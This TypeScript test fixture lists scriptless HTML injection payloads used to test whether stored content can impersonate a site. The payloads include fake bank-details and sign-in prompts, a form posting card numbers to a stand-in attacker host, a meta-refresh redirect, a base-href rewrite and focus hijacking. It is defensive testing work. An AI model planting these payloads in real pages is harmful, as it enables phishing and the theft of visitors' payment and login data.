/**
 * Stored HTML that runs no script but would pass for the site itself: a top-layer box, the site's own classes, its ids,
 * a redirect, a form. Each carries a marker text, so a test can find where (and whether) it drew. The site's class
 * names are hashed per build (CSS modules), so the vectors take the ones the page under test uses, as an attacker
 * reading the live page would.
 */
export type SiteClasses = {
  /** The notice region's class (src/ui/NoticeRegion.module.css: fixed to the corner, above everything). */
  noticeRegion: string;
  /** A class of the site's own buttons (global). */
  button: string;
};

export type ImpersonationVector = { name: string; html: string; marker: string };

export const IMPERSONATION_MARKERS = {
  bank: 're-enter your bank details',
  session: 'Session expired — Sign in again',
} as const;

export function impersonationVectors(site: SiteClasses): ImpersonationVector[] {
  const { bank, session } = IMPERSONATION_MARKERS;
  return [
    {
      name: '<dialog open> with a fake bank-details link',
      marker: bank,
      html: `<dialog open style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"><h2>Security check</h2><p><a href="https://evil.example/bank">Please ${bank}</a></p></dialog>`,
    },
    {
      name: "a box with the site's notice-region class",
      marker: session,
      html: `<div class="${site.noticeRegion}"><div role="alert" aria-live="assertive">${session}: <a class="${site.button}" href="https://evil.example/login">Sign in</a></div></div>`,
    },
    {
      name: 'a stored id="prerender-state" ahead of the real data block',
      marker: 'prerender-state impostor',
      html: '<p id="prerender-state">prerender-state impostor</p><p id="root">root impostor</p><p id="main-content">main-content impostor</p>',
    },
    {
      name: 'a popover shown over the page',
      marker: 'popover impostor',
      html: '<div popover="manual" id="fake-popover" style="position:fixed;top:0">popover impostor</div><a href="#" popovertarget="fake-popover" popovertargetaction="show">open</a>',
    },
    {
      name: 'an invoker command aimed at the site\'s own dialogs',
      marker: 'command impostor',
      html: '<a commandfor="application-dialog" command="show-modal" href="#">command impostor</a>',
    },
    {
      name: '<base href> rewriting every relative link',
      marker: 'base impostor',
      html: '<base href="https://evil.example/"><p><a href="/contact-us">base impostor</a></p>',
    },
    {
      name: '<meta http-equiv=refresh> sending the visitor away',
      marker: 'refresh impostor',
      html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>refresh impostor</p>',
    },
    {
      name: 'a form that posts what is typed to another host',
      marker: 'form impostor',
      html: '<form action="https://evil.example/collect" method="post"><p>form impostor</p><input name="card" placeholder="Card number"><button type="submit">Pay</button></form>',
    },
    {
      name: 'a <link> and a <style> restyling the site',
      marker: 'style impostor',
      html: '<link rel="stylesheet" href="https://evil.example/site.css"><style>header{display:none}</style><p>style impostor</p>',
    },
    {
      name: 'position:fixed and sticky boxes over the header',
      marker: 'sticky impostor',
      html: '<p style="position:sticky;top:0;z-index:9999">sticky impostor</p><p style="position: fixed; inset: 0">fixed impostor</p>',
    },
    {
      name: 'an accesskey and autofocus stealing keys and focus',
      marker: 'accesskey impostor',
      html: '<a href="https://evil.example/" accesskey="s" autofocus tabindex="1">accesskey impostor</a>',
    },
    {
      name: 'a same-page link to a stored heading',
      marker: 'Jump to specs',
      html: '<p><a href="#specs">Jump to specs</a></p><h2 id="specs">Specifications</h2>',
    },
  ];
}
